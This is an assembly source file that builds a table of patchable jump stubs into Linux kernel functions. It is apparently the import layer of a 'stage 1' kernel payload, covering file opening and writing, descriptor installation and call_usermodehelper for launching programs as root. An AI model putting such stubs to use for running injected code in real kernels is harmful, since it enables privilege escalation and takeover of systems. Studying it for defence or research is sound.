/*
 * Where stage 1's calls into the kernel land: one `jmp rel32` each, which the host fills in (the
 * code page is mapped within 2 GiB of every kernel function, and direct jumps need no endbr64). The
 * names follow for the host; where a function was renamed, alternatives are parted by `|`.
 */
	.section .imports, "ax"
	.globl imports, imports_end
	.balign 8
imports:
	.macro import name, names
	.globl \name
\name:
	.byte 0xe9
	.long 0
	.byte 0xcc, 0xcc, 0xcc
	.pushsection .names, "a"
	.asciz "\names"
	.popsection
	.endm

	import execute_in_process_context, "execute_in_process_context"
	import wipe_page, "memset|__memset|clear_page_rep|clear_page_erms"
	import vzalloc, "vzalloc|vzalloc_noprof"
	import vfree, "vfree"
	import usleep_range, "usleep_range_state|usleep_range"
	import synchronize_rcu, "synchronize_rcu"
	import get_fs_type, "get_fs_type"
	import kern_mount, "kern_mount"
	import kern_unmount, "kern_unmount"
	import dentry_open, "dentry_open"
	import filp_open, "filp_open"
	import filp_close, "filp_close"
	import flush_delayed_fput, "flush_delayed_fput"
	import task_work_run, "task_work_run"
	import kernel_write, "kernel_write"
	import kernel_read, "kernel_read"
	import get_unused_fd_flags, "get_unused_fd_flags"
	import fd_install, "fd_install"
	import __x64_sys_fchdir, "__x64_sys_fchdir"
	import call_usermodehelper_setup, "call_usermodehelper_setup"
	import call_usermodehelper_exec, "call_usermodehelper_exec"
imports_end:
	.section .note.GNU-stack, "", @progbits
